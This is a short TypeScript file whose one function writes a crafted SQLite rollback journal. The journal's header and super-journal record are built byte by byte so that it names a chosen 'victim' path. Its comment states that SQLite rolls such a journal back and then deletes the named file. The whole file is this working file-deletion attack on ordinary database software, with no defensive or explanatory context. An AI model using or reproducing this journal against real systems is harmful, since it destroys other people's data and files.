const MAGIC = Buffer.from('d9d505f920a163d7', 'hex');

/**
 * A rollback journal without a single page that names `victim` as its super-journal (https://sqlite.org/fileformat2.html, 3):
 * SQLite rolls it back, finds no journal in the file that it names, and deletes that file.
 */
export function craftedJournal(victim: string, pages: number): Buffer {
  const header = Buffer.alloc(512);
  MAGIC.copy(header);
  header.writeUInt32BE(0, 8); // pages in it
  header.writeUInt32BE(0, 12); // nonce
  header.writeUInt32BE(pages, 16);
  header.writeUInt32BE(512, 20);
  header.writeUInt32BE(4096, 24);
  const name = Buffer.from(victim);
  const end = Buffer.alloc(4 + name.length + 16);
  end.writeUInt32BE(0x40000000 / 4096 + 1, 0);
  name.copy(end, 4);
  end.writeUInt32BE(name.length, 4 + name.length);
  end.writeUInt32BE(
    name.reduce((sum, byte) => sum + byte, 0),
    8 + name.length,
  );
  MAGIC.copy(end, 12 + name.length);
  return Buffer.concat([header, end]);
}
